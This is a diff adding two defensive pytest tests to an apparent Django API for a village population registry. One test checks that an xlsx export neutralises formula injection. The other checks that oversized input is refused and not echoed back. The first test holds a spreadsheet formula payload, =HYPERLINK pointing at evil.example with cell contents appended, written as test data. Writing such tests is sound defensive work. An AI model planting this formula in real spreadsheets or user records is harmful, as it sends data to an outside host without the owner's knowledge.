@@ -206,3 +206,38 @@ def test_api_refuses_a_foreign_nik_and_takes_an_identity_correction_with_a_reaso
                                                   "alasan_koreksi": "sesuai KTP-el"}, content_type="application/json")
     assert response.status_code == 200 and response.json()["nama"] == "I Ketut Oka"
     assert AuditLog.objects.filter(aksi="registry.individu.koreksi_identitas", objek_id=str(pk)).exists()
+
+
+def test_formula_in_a_name_reaches_the_workbook_as_inert_text(op, keluarga):
+    """PATCH a name that is a spreadsheet formula: penduduk.xlsx holds it as text, never a formula."""
+    import io
+
+    from openpyxl import load_workbook
+
+    attack = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'
+    pk = keluarga.anggota.get().pk
+    response = op.patch(f"{API}/individu/{pk}/", {"nama": attack, "koreksi_identitas": True,
+                                                  "alasan_koreksi": "uji rumus"}, content_type="application/json")
+    assert response.status_code == 200, response.content[:500]
+    assert Individu.objects.get(pk=pk).nama == attack
+    book = load_workbook(io.BytesIO(op.get(f"/registri/desa/{DESA}/penduduk.xlsx").content))
+    cells = [c for row in book.active.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value == attack and c.data_type == "s" for c in cells)
+
+
+def test_a_2mb_value_is_never_echoed_back_by_the_api(op, keluarga):
+    big = "=" + "A" * 2_000_000
+    pk = keluarga.anggota.get().pk
+    for field in ("nama", "agama", "jenis_kelamin", "tanggal_lahir", "pekerjaan", "warna_favorit"):
+        response = op.patch(f"{API}/individu/{pk}/", {field: big}, content_type="application/json")
+        assert response.status_code == 400, (field, response.status_code)
+        assert len(response.content) < 5_000, (field, response.content[:300])
+    response = op.post(f"{API}/keluarga/{keluarga.pk}/anggota/", {**HEAD, "nik": big, "hubungan_keluarga": big},
+                       content_type="application/json")
+    assert response.status_code == 400 and len(response.content) < 5_000, response.content[:300]
+    # DRF's own message quotes the refused choice ('"…" is not a valid choice.')
+    response = op.post(f"{API}/keluarga/{keluarga.pk}/peristiwa/", {"jenis": big, "individu": {}},
+                       content_type="application/json")
+    assert response.status_code == 400 and len(response.content) < 5_000, response.content[:300]
+    assert big[:100] + "…" in response.json()["temuan"][0]["message"]
